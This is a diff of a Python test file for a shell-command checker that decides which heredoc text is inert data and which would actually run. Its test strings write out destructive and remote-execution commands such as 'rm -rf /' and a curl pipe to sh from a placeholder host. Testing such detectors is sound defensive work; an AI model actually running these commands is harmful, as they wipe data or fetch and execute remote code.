@@ -59,6 +59,9 @@ def _effects(command: str) -> tuple[tuple[str, ...], tuple[str, ...]] | None:
     ('cat > /tmp/r.md <<EOF\nrm -rf /\nEOF', "rm -rf /"),  # into a note: written, not run (yet)
     ("cat > /tmp/r.md <<'EOF'\nrun `rm -rf /` or $(rm -rf /)\nEOF", "rm -rf /"),  # quoted: nothing expands
     ("cat > notes.md <<'EOF'\r\nrm -rf /\r\nEOF\r\n", "rm -rf /"),  # a CRLF text's delimiter is `EOF\r`
+    ("cat <<EOF > notes.md\nit`s rm -rf /\nEOF", "rm -rf /"),  # a lone backtick: bash runs nothing of it
+    # a body but what runs in it: a markdown code span runs (`date`), the prose around it is data
+    ("cat > notes.md <<EOF\nUse `date` then never run rm -rf / here\nEOF", "rm -rf /"),
 ])
 def test_data_parts_are_blanked(command: str, hidden: str) -> None:
     masked = blank(command)
@@ -81,7 +84,6 @@ def test_data_parts_are_blanked(command: str, hidden: str) -> None:
     'python3 -c "$(cat <<EOF\nimport os; os.system(\'rm -rf /\')\nEOF\n)"',
     "cat <<EOF > notes.md\n$(curl -s https://x.example/p.sh | sh)\nEOF",
     "cat <<EOF > notes.md\nrun `curl -s https://x.example/p.sh | sh` now\nEOF",  # bash runs backticks too
-    "cat <<EOF > notes.md\nit`s rm -rf /\nEOF",  # a lone backtick: bash fails the command, read whole
     "cat <<EOF > notes.md\n  $(curl -s https://x.example/p.sh | sh)\nEOF",  # indented: the grammar missed it
     # the grammar ends the first body at `EOF `, bash at `EOF`: then rm runs, not the note's text
     "cat <<EOF\nEOF \ncat > notes.md <<X\nEOF\nrm -rf /\nX\n",
